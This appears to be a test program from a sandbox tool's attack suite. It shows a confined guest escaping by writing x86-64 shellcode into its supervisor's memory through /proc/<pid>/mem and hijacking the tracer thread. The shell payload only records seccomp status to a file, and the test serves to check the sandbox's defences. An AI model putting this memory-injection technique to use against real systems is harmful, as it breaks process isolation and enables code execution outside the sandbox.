/* The guest against its supervisor's memory (tests/attacks.rs).
 *
 * sandbox-run runs as the same user as the guest; where nothing else
 * stops it (no Yama, the supervisor dumpable, no Landlock domain), the
 * guest can open /proc/<supervisor>/mem for writing -- an ordinary path
 * open, which the filter allows -- although ptrace and process_vm_writev
 * are denied. This guest goes all the way: it finds the program counter of
 * the tracer thread (blocked in wait4) in /proc/<supervisor>/task/TID/
 * syscall, writes position-independent code there that execs
 *   sh -c 'grep Seccomp: /proc/self/status > escaped.txt; ...'
 * and wakes the tracer with a fork. The shell then runs in the supervisor
 * process: no seccomp filter, no tracer.
 *
 * Prints "open supervisor mem: ok" or the errno name, then what it did.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

/* execve("/bin/sh", ["sh", "-c", CMD], NULL); exit(99) */
extern const unsigned char sc_start[], sc_end[];
__asm__(".pushsection .rodata\n"
        "sc_start:\n"
        "  lea sc_sh(%rip), %rdi\n"
        "  lea sc_c(%rip), %rsi\n"
        "  lea sc_cmd(%rip), %rdx\n"
        "  and $-16, %rsp\n"
        "  push $0\n"
        "  push %rdx\n"
        "  push %rsi\n"
        "  push %rdi\n"
        "  mov %rsp, %rsi\n"
        "  xor %edx, %edx\n"
        "  mov $59, %eax\n"
        "  syscall\n"
        "  mov $60, %eax\n"
        "  mov $99, %edi\n"
        "  syscall\n"
        "sc_sh: .asciz \"/bin/sh\"\n"
        "sc_c: .asciz \"-c\"\n"
        "sc_cmd: .asciz \"grep -E '^(Seccomp|TracerPid):' /proc/self/status > escaped.tmp; mv escaped.tmp escaped.txt\"\n"
        "sc_end:\n"
        ".popsection\n");

int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    pid_t sup = getppid();
    char p[128];
    snprintf(p, sizeof p, "/proc/%d/mem", sup);
    int mem = open(p, O_RDWR);
    if (mem < 0) {
        printf("open supervisor mem: %s\n", strerrorname_np(errno));
        /* Reading is inspection too. */
        mem = open(p, O_RDONLY);
        printf("open supervisor mem read-only: %s\n", mem < 0 ? strerrorname_np(errno) : "ok");
        return 0;
    }
    printf("open supervisor mem: ok\n");
    snprintf(p, sizeof p, "/proc/%d/task", sup);
    DIR *d = opendir(p);
    struct dirent *e;
    unsigned long pc = 0;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char q[512], comm[64] = "", sc[512] = "";
        snprintf(q, sizeof q, "%s/%s/comm", p, e->d_name);
        FILE *f = fopen(q, "r");
        if (!f) continue;
        if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
        fclose(f);
        if (strncmp(comm, "condo-tracer", 12)) continue;
        snprintf(q, sizeof q, "%s/%s/syscall", p, e->d_name);
        for (int i = 0; i < 100 && !pc; i++) {
            f = fopen(q, "r");
            if (!f) break;
            if (!fgets(sc, sizeof sc, f)) sc[0] = 0;
            fclose(f);
            /* "NR arg1 ... arg6 SP PC" while blocked in a syscall */
            char *last = strrchr(sc, ' ');
            if (atoi(sc) == 61 && last) pc = strtoul(last + 1, NULL, 16);
            if (!pc) usleep(10000);
        }
    }
    if (!pc) {
        printf("tracer not found blocked in wait4\n");
        return 0;
    }
    ssize_t n = pwrite(mem, sc_start, sc_end - sc_start, (off_t)pc);
    printf("patched the tracer's code: %s\n", n == sc_end - sc_start ? "yes" : strerrorname_np(errno));
    /* Wake the tracer: a fork event. */
    pid_t c = fork();
    if (c == 0) _exit(0);
    if (c > 0) waitpid(c, NULL, 0);
    for (int i = 0; i < 300 && access("escaped.txt", F_OK) != 0; i++) usleep(10000);
    return 0;
}
